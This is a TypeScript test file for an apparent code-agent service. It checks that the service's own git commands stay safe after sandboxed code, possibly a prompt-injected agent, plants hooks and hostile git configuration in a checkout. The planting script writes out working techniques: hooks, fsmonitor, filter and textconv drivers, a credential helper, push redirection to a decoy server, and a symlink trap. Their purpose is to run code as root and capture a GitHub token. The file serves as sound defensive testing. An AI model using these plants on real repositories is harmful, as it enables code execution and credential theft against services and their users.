import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { RepoCheckout } from '@epitrace/repo-checkout';
import { FakeGitServer, startGitHttpServer } from '@epitrace/testing';
import { ProcessRunner, RunCommandOptions } from '../src/workspace/process-runner';

/**
 * The attack this guards against: code in the sandbox (a malicious repository's tests, a
 * prompt-injected agent) plants hooks or git config in the checkout, then waits for the service
 * to run git there as root with the GitHub token in git's environment.
 */
const TOKEN = `ghp_${randomBytes(18).toString('hex')}`;
const TOKEN_HEADER = Buffer.from(`x-access-token:${TOKEN}`).toString('base64');
const FIXED = 'module.exports = (a, b) => a + b;\n';
const HOOKS = ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction', 'post-checkout', 'post-index-change'];

const isRoot = process.getuid?.() === 0;
const bwrapWorks = spawnSync('bwrap', ['--ro-bind', '/', '/', '--unshare-pid', '--die-with-parent', 'true']).status === 0;

function git(cwd: string, ...args: string[]): string {
  const env = { PATH: process.env['PATH'] ?? '/usr/bin:/bin', GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
  return execFileSync('git', ['-c', 'user.name=Fixture', '-c', 'user.email=fixture@example.test', ...args], { cwd, env, encoding: 'utf8' });
}

/** Adds a submodule entry (a gitlink, without .gitmodules) to the repository's default branch, as a repository may have. */
function addGitlink(bare: string, path: string): void {
  const work = mkdtempSync(join(tmpdir(), 'planted-git-seed-'));
  try {
    git(work, 'clone', '-q', bare, '.');
    git(work, 'update-index', '--add', '--cacheinfo', `160000,${git(work, 'rev-parse', 'HEAD').trim()},${path}`);
    git(work, 'commit', '-q', '-m', 'vendor a submodule');
    git(work, 'push', '-q', 'origin', 'HEAD:main');
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}

/**
 * What the sandboxed code plants, as a shell script run in the checkout. Every planted program
 * records that it ran, and the environment it got, in `markers` (a directory of the test's: only
 * a program run by the service, as root, could write there).
 */
function plantingScript(checkout: string, markers: string, decoyUrl: string, realUrl: string): string {
  const evil = join(checkout, '.evil');
  const program = (name: string, passStdin = false) => `#!/bin/sh\nenv > ${markers}/${name}\n${passStdin ? 'cat\n' : ''}`;
  const write = (path: string, content: string, executable = false) => `cat > '${path}' <<'PLANTED'\n${content}PLANTED\n${executable ? `chmod 755 '${path}'\n` : ''}`;
  return [
    'set -e',
    `mkdir -p ${evil}/hooks`,
    // (a) hooks, in the repository the tree holds and in a hooks path of its own
    ...HOOKS.flatMap((hook) => [write(`.git/hooks/${hook}`, program(`hook-${hook}`), true), write(`${evil}/hooks/${hook}`, program(`hooks-path-${hook}`), true)]),
    write(`${evil}/fsmonitor`, program('fsmonitor'), true),
    write(`${evil}/filter`, program('filter', true), true),
    write(`${evil}/textconv`, program('textconv'), true),
    write(`${evil}/credential`, program('credential-helper'), true),
    write(`${evil}/ssh`, program('ssh-command'), true),
    // (b) core.fsmonitor, (d) the push redirected to another server, straight in .git/config
    write(
      '.git/config.planted',
      `[core]\n\tfsmonitor = ${evil}/fsmonitor\n\thooksPath = ${evil}/hooks\n\tsshCommand = ${evil}/ssh\n` +
        `[url "${decoyUrl}/"]\n\tinsteadOf = ${realUrl}/\n\tpushInsteadOf = ${realUrl}/\n` +
        `[remote "origin"]\n\tpushurl = ${decoyUrl}/acme/stolen.git\n[http]\n\tproxy = ${decoyUrl}\n` +
        `[credential]\n\thelper = !${evil}/credential\n[include]\n\tpath = ${checkout}/evil.gitconfig\n` +
        `[includeIf "gitdir:/"]\n\tpath = ${checkout}/evil.gitconfig\n`,
    ),
    'cat .git/config.planted >> .git/config',
    // (c) a filter and diff driver from an included file in the tree, used by the tree's .gitattributes
    write('evil.gitconfig', `[filter "evil"]\n\tclean = ${evil}/filter\n\tsmudge = ${evil}/filter\n\trequired = true\n[diff "evil"]\n\ttextconv = ${evil}/textconv\n\tcommand = ${evil}/textconv\n[diff]\n\texternal = ${evil}/textconv\n`),
    write('.gitattributes', '* filter=evil diff=evil\n'),
    write('.git/info/attributes', '* filter=evil diff=evil\n'),
    // (e) the submodule's directory filled with a repository of its own, whose filter git status would run
    `git -C vendor/lib init -q && echo one > vendor/lib/file && git -C vendor/lib add file && git -C vendor/lib -c user.name=x -c user.email=x@x commit -qm x`,
    `git -C vendor/lib config filter.evil.clean ${evil}/filter && echo '* filter=evil' > vendor/lib/.gitattributes && echo two > vendor/lib/file && touch -d 2030-01-01 vendor/lib/file`,
    write('.gitmodules', '[submodule "lib"]\n\tpath = vendor/lib\n\turl = ./lib\n\tignore = none\n'),
    // a symlink where the service will write its context file
    `ln -s ${markers} .epitrace`,
    // the service's own git directory, were it reachable
    `{ cat .git/config.planted >> ../git/config; } 2>/dev/null || true`,
    `{ cp .git/hooks/pre-commit ../git/hooks/pre-commit; } 2>/dev/null || true`,
    // the intended change, and a tracked file git must re-read (where a clean filter would run)
    `printf '${FIXED.replace(/\n/g, '\\n')}' > src/sum.js`,
    'touch -d 2030-01-01 README.md',
    'echo planted',
  ].join('\n');
}

/** Files under `dir` (symlinks not followed) whose content includes one of `needles`. */
function filesContaining(dir: string, needles: string[]): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name))
    .filter((file) => needles.some((needle) => readFileSync(file).includes(needle)));
}

describe('the service git after sandboxed code planted hooks and config in the checkout (real git, real sandboxes)', () => {
  const runner = new ProcessRunner();
  let server: FakeGitServer;
  let decoy: FakeGitServer;
  let workRoot: string;

  beforeAll(async () => {
    server = await startGitHttpServer({ token: TOKEN });
    decoy = await startGitHttpServer();
    workRoot = mkdtempSync(join(tmpdir(), 'planted-git-'));
  });

  afterAll(async () => {
    await server?.close();
    await decoy?.close();
    rmSync(workRoot, { recursive: true, force: true });
  });

  const modes: { name: string; sandbox: RunCommandOptions['sandbox']; runs: boolean }[] = [
    { name: 'user mode (uid 65534)', sandbox: { mode: 'user', uid: 65534, gid: 65534 }, runs: isRoot },
    { name: 'bwrap mode', sandbox: { mode: 'bwrap' }, runs: bwrapWorks },
  ];

  for (const { name, sandbox, runs } of modes) {
    (runs ? it : it.skip)(`${name}: no planted program runs, the token stays out of reach, and only the fix reaches the real remote`, async () => {
      const repoName = `shop-${sandbox.mode}`;
      const repoLink = await server.createRepo('acme', repoName, { 'README.md': '# shop\n', 'src/sum.js': 'module.exports = (a, b) => a - b;\n', 'package.json': '{"name":"shop"}\n' });
      addGitlink(join(server.root, 'acme', `${repoName}.git`), 'vendor/lib');
      const markers = mkdtempSync(join(tmpdir(), 'planted-git-markers-'));
      const checkout = await RepoCheckout.clone({ repo: repoLink, token: TOKEN, allowHttp: true, workRoot, label: `fix-${sandbox.mode}`, identity: { name: 'EpiTrace Bot', email: 'bot@epitrace.test' } });
      try {
        await checkout.switchToNewBranch('epitrace/fix-planted');
        const trustedConfig = readFileSync(join(checkout.gitDir, 'config'));
        const home = join(checkout.root, 'home');
        mkdirSync(home);

        const planted = await runner.run(['sh', '-c', plantingScript(checkout.dir, markers, decoy.url, server.url)], { cwd: checkout.dir, home, timeoutMs: 30_000, sandbox });
        expect({ exit: planted.exitCode, output: planted.output.trim() }).toEqual({ exit: 0, output: 'planted' });

        // The plant works on any git that uses the tree's own repository, as root.
        execFileSync('git', ['-C', checkout.dir, 'status', '--porcelain'], { env: { PATH: process.env['PATH'] ?? '' }, stdio: 'ignore' });
        expect(readdirSync(markers)).toEqual(expect.arrayContaining(['fsmonitor', 'filter']));
        for (const marker of readdirSync(markers)) rmSync(join(markers, marker));

        // What the code-agent does next: its context file, setting aside what the tests left, commit, push.
        await checkout.writeFreshFile('.epitrace/fix-context.md', 'the incident\n');
        expect(lstatSync(join(checkout.dir, '.epitrace')).isDirectory()).toBe(true);
        await checkout.excludeFromCommits('.epitrace/');
        const changed = (await checkout.changedFiles()).map((f) => f.path);
        expect(changed).toEqual(expect.arrayContaining(['src/sum.js', '.gitattributes', 'evil.gitconfig']));
        expect(changed).not.toContain('vendor/lib');
        await checkout.discardChanges(['README.md']);
        const sha = await checkout.commitAll('fix: add, do not subtract', ['src/sum.js']);
        expect(sha).toMatch(/^[0-9a-f]{40}$/);
        expect(await checkout.diffStat('HEAD~1')).toContain('src/sum.js');
        expect(await checkout.remoteBranchExists('epitrace/fix-planted')).toBe(false);
        await checkout.push('epitrace/fix-planted', { force: true });

        expect(readdirSync(markers)).toEqual([]);
        expect(decoy.requests).toEqual([]);
        expect(await server.changedFiles('acme', repoName, 'main', 'epitrace/fix-planted')).toEqual(['src/sum.js']);
        expect(await server.readFile('acme', repoName, 'epitrace/fix-planted', 'src/sum.js')).toBe(FIXED);
        // The service's git directory was out of the sandbox's reach.
        expect(readFileSync(join(checkout.gitDir, 'config'))).toEqual(trustedConfig);
        expect(existsSync(join(checkout.gitDir, 'hooks', 'pre-commit'))).toBe(false);
        // The token is in no file, least of all one the sandbox can read (the tree, HOME).
        expect(filesContaining(checkout.root, [TOKEN, TOKEN_HEADER])).toEqual([]);
      } finally {
        await checkout.dispose();
        rmSync(markers, { recursive: true, force: true });
      }
    });
  }
});
